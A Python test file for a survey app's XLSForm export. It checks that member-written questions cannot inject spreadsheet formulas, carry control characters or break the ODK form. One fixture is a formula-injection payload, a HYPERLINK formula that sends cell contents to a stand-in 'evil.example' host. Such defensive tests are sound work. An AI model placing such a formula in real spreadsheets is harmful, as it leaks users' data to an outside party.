"""What members and facilitators write cannot turn the XLSForm into a weapon or break it (issue 20, item 5):
a proposed question starting with `=HYPERLINK(` stays text, control characters are stripped, and a
proposal that would break the ODK form is refused when it is accepted, with the reason."""

import io
from xml.etree import ElementTree

import openpyxl
from fastapi import FastAPI
from fastapi.testclient import TestClient
from pyxform.xls2xform import convert
from sqlmodel import Session

from app.auth import service as auth_service
from app.clusters import service as cluster_service
from app.clusters.models import Cluster, Participant
from app.clusters.schemas import CustomKpiCreate
from app.errors import InvalidInput
from app.proposals import service as proposal_service
from app.proposals.models import IndicatorProposal
from app.proposals.schemas import ProposalCreate
from app.rounds.models import Round
from tests import factories

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for your results")'
FORMS = "{http://openrosa.org/xforms/xformsList}"


def _setting(session: Session, *, label: str = "2026 H1") -> tuple[Cluster, Round, Participant]:
    cluster = factories.cluster(session)
    member = factories.participant(session, cluster, organisation="Mae Ploy Foods")
    return cluster, factories.open_round(session, cluster, label=label), member


def _propose(session: Session, cluster: Cluster, member: Participant, **wording: str) -> IndicatorProposal:
    data = ProposalCreate(
        csf_key="cost-control", title=wording.pop("title", "Joint purchases"), kpi_type="count", **wording
    )
    scorecard = cluster_service.scorecard(session, cluster)
    return proposal_service.propose(session, member, data, scorecard=scorecard, round_id=None, actor="member")


def test_a_proposed_question_starting_with_a_formula_stays_text(session: Session, admin_client: TestClient) -> None:
    cluster, round_, member = _setting(session)
    proposal = _propose(session, cluster, member, question=FORMULA)
    proposal_service.accept(session, proposal, cluster, actor="facilitator")
    session.commit()

    xlsx = admin_client.get(f"/api/v1/rounds/{round_.id}/xlsform").content
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a live formula in the XLSForm"
    questions = [cell for cell in cells if cell.value == FORMULA]  # the label, in each language of the form
    # Text, and marked as typed after an apostrophe: editing the cell in a spreadsheet keeps it text.
    assert questions and all(cell.data_type == "s" and cell.quotePrefix for cell in questions)
    # The member's words reach the form as they wrote them.
    xform = convert(xlsform=io.BytesIO(xlsx), file_type=".xlsx").xform
    assert any(e.text == FORMULA for e in ElementTree.fromstring(xform).iter())


def test_control_characters_break_neither_the_xlsform_nor_the_form_list(
    session: Session, admin_client: TestClient, app: FastAPI
) -> None:
    cluster, round_, member = _setting(session, label="2026\x07 H1\x1b")
    # Text already stored (from before this rule, or by a route without it) is cleaned where it is written out.
    data = CustomKpiCreate(
        key="own-bells",
        csf_key="cost-control",
        title="Bells\x0b rung",
        level="member",
        question="How many\x01 bells?\x7f",
        kpi_type="count",
    )
    cluster_service.add_custom_kpi(session, cluster, data, actor="test")
    token = auth_service.issue_member_link(session, member.id or 0)
    session.commit()

    reply = admin_client.get(f"/api/v1/rounds/{round_.id}/xlsform")
    assert reply.status_code == 200
    survey = list(openpyxl.load_workbook(io.BytesIO(reply.content))["survey"].iter_rows(values_only=True))
    assert ("integer", "k_own_bells", "How many bells?") in {row[:3] for row in survey}
    convert(xlsform=io.BytesIO(reply.content), file_type=".xlsx", validate=True)

    listing = TestClient(app).get(f"/openrosa/m/{token}/formList", headers={"X-OpenRosa-Version": "1.0"})
    assert listing.status_code == 200
    assert ElementTree.fromstring(listing.content).findtext(f"{FORMS}xform/{FORMS}name") == f"{cluster.name}: 2026 H1"


def test_a_proposal_that_would_break_the_form_is_refused_when_accepted(session: Session) -> None:
    cluster, _round, member = _setting(session)
    breaking = {
        "question": ("How many ${participant_id} purchases?", "reference to another question"),
        "title": ("Joint\x08 purchases", "invisible control characters"),
    }
    for field, (text, reason) in breaking.items():
        proposal = _propose(session, cluster, member, **{field: text})
        session.commit()
        try:
            proposal_service.accept(session, proposal, cluster, actor="facilitator")
        except InvalidInput as exc:
            assert reason in exc.message and exc.details[0]["field"] == field
        else:
            raise AssertionError(f"accepted a proposal whose {field} breaks the form")
        session.rollback()
        assert session.get(IndicatorProposal, proposal.id).status == "proposed"  # type: ignore[union-attr]
        assert all(not k.is_custom for k in cluster_service.scorecard(session, cluster).kpis())
